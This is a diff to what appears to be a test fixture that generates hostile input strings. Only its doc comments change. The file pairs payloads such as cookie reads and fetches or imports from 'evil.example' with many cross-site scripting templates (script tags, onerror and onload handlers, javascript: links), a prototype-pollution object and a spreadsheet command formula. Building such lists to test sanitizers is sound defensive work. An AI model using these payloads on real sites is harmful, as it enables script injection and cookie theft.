@@ -3,7 +3,7 @@ const payloads = [
   'ran=1', 'alert(1)', 'window.ran=1', "fetch('//evil.example')", 'top.ran=document.cookie', 'import("//evil.example/x.js")', 'self[`ran`]=1', 'confirm`1`',
 ]; // biome-ignore format: a table
 
-/** Ways to get code run out of a text; CODE stands for the code. */
+/** Ways to make a page run code from a text. CODE marks its place. */
 const templates = [
   '<script>CODE</script>', '<ScRiPt>CODE</sCrIpT>', '<script src=//evil.example/x.js>CODE</script>', '<img src=x onerror=CODE>', '<img src=x onerror="CODE">',
   "<img/src='x'/onerror='CODE'>", '<svg onload=CODE>', '<svg><script>CODE</script></svg>', '<svg><animate onbegin=CODE attributeName=x>', '<body onload=CODE>',
@@ -20,6 +20,6 @@ const templates = [
   '{"__proto__":{"ran":"CODE"}}', '[x](javascript:CODE)', '![x](x"onerror="CODE)', '<xml><x:script xmlns:x="http://www.w3.org/1999/xhtml">CODE</x:script>', '=cmd|"/c CODE"!A1',
 ]; // biome-ignore format: a table
 
-/** Texts that would run or build something where a text is taken for markup, an address or code: each different. */
+/** Texts that would run or build something if a page treated them as markup, an address or code; no two are the same. */
 export const hostileTexts = (): string[] =>
   templates.flatMap((template) => payloads.map((payload) => template.replaceAll('CODE', () => payload)));
